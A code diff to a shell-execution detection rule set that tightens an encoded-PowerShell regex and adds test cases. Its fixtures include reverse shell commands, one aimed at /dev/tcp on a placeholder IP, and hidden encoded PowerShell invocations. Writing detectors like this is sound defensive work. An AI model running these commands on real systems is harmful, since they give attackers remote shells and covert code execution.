@@ -88,7 +88,12 @@ export const SHELL_EXEC_RULES: readonly Rule[] = [
       return ['/bin/sh -i <&3 >&3 2>&3', 'bash -i 2>&1', 'cat /tmp/f | sh -i 2>&1'];
     },
     get ignores() {
-      return ['bash -i', 'ssh -i key.pem host > log', 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1'];
+      return [
+        'bash -i',
+        '<code>bash -i</code>',
+        'ssh -i key.pem host > log',
+        'bash -i >& /dev/tcp/192.0.2.1/99 0>&1',
+      ];
     },
   },
   {
@@ -118,7 +123,7 @@ export const SHELL_EXEC_RULES: readonly Rule[] = [
     keywords: ['powershell', 'pwsh'],
     expression: expression(
       'gi',
-      String.raw`(?<![A-Za-z0-9_-])(?:powershell|pwsh)(?:\.exe)?[^\r\n|;]{1,160}?[\s"',\\][-/]e(?:c|nc|nco|ncod|ncode|ncoded|ncodedcommand)?[\s"',\\]{1,8}[A-Za-z0-9+/]{24,400}={0,2}`,
+      String.raw`(?<![A-Za-z0-9_-])(?:powershell|pwsh)(?:\.exe)?[^\r\n|;]{0,160}?[\s"',\\][-/]e(?:c|nc|nco|ncod|ncode|ncoded|ncodedcommand)?[\s"',\\]{1,8}[A-Za-z0-9+/]{24,400}={0,2}`,
     ),
     reach: { before: 0, after: 600 },
     source:
@@ -127,6 +132,7 @@ export const SHELL_EXEC_RULES: readonly Rule[] = [
     get finds() {
       return [
         'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
+        'powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
         'pwsh.exe -EncodedCommand ZQBjAGgAbwAgACIAaABlAGwAbABvACIA',
         '["powershell","-e","ZQBjAGgAbwAgACIAaABlAGwAbABvACIA"]',
       ];
